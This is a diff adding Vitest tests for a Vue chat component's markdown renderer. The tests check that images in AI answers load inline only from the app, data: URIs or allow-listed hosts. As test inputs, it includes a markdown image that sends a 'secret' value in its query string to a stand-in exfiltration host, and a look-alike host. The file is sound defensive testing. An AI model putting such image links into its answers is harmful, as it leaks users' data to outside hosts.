@@ -1,3 +1,4 @@
+/// <reference lib="dom" />
 import { mount } from '@vue/test-utils'
 import { describe, expect, it } from 'vitest'
 import ChatMessage from '../../app/components/ChatMessage.vue'
@@ -77,5 +78,23 @@ describe('ChatMessage', () => {
     const wrapper = mount(ChatMessage, { props: { message: { id: '4', role: 'assistant', content: '', status: 'streaming' } } })
     expect(wrapper.text()).toContain('Thinking…')
     expect(wrapper.find('article').attributes('aria-busy')).toBe('true')
+  })
+})
+
+describe('images in answers', () => {
+  it('shows only this app\'s, data: and allowed hosts\' images inline; any other becomes a link naming its host', () => {
+    const html = renderMarkdown('![own](/logo.svg) ![inline](data:image/png;base64,iVBORw0KGgo=) ![ok](https://images.example.com/a.png) ![leak](https://exfil.example/p.png?d=secret "t")', ['https://images.example.com'])
+    const root = document.createElement('div')
+    root.innerHTML = html
+    expect([...root.querySelectorAll('img')].map(image => image.getAttribute('src'))).toEqual(['/logo.svg', 'data:image/png;base64,iVBORw0KGgo=', 'https://images.example.com/a.png'])
+    const blocked = root.querySelector('a.blocked-image')!
+    expect(blocked.getAttribute('href')).toBe('https://exfil.example/p.png?d=secret')
+    expect(blocked.getAttribute('rel')).toBe('noopener noreferrer nofollow')
+    expect(blocked.textContent).toContain('leak (image from https://exfil.example, not loaded)')
+  })
+
+  it('does not treat a protocol-relative or look-alike host as allowed', () => {
+    const html = renderMarkdown('![a](//images.example.com/a.png) ![b](https://images.example.com.evil.example/b.png)', ['https://images.example.com'])
+    expect(html).not.toContain('<img')
   })
 })
